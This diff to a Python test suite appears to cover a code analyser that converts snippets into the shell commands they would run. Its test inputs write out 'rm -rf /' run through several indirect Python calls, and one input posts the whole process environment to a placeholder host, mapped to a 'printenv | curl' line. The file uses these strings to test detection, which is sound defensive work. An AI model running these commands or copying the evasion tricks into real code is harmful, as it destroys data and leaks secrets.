@@ -467,7 +467,11 @@ _PIECES = st.sampled_from(
 
 @settings(max_examples=400, deadline=None)
 @given(
-    st.sampled_from(LANGUAGES), st.one_of(st.text(max_size=80), st.lists(_PIECES, max_size=25).map("".join))
+    st.sampled_from(LANGUAGES),
+    st.one_of(
+        st.text(st.characters(exclude_categories=()), max_size=80),
+        st.lists(_PIECES, max_size=25).map("".join),
+    ),
 )
 def test_no_text_raises(language: str, code: str) -> None:
     assert isinstance(of(language, code), Foreign)
@@ -546,3 +550,22 @@ def test_a_name_stands_for_everything_it_may_have_been_given(language: str, code
 )
 def test_rarer_languages_are_read_by_the_same_tables(language: str, code: str) -> None:
     assert "rm -rf /" in of(language, code).scripts
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'import functools, os; functools.partial(os.system, "rm -rf /")()',
+        'import threading, os; threading.Thread(target=os.system, args=("rm -rf /",)).start()',
+        'import atexit, os; atexit.register(os.system, "rm -rf /")',
+        'import timeit; timeit.timeit("os.system(\'rm -rf /\')", "import os", number=1)',
+        'import os; os.system.__call__("rm -rf /")',
+    ],
+)
+def test_a_function_that_is_given_away_is_called(code: str) -> None:
+    assert "rm -rf /" in of("python", code).scripts
+
+
+def test_the_environment_that_is_sent_is_told_as_such() -> None:
+    code = 'import os, requests; requests.post("http://x", json=dict(os.environ))'
+    assert of("python", code).scripts == (f"printenv | curl -d @- {GAP}",)
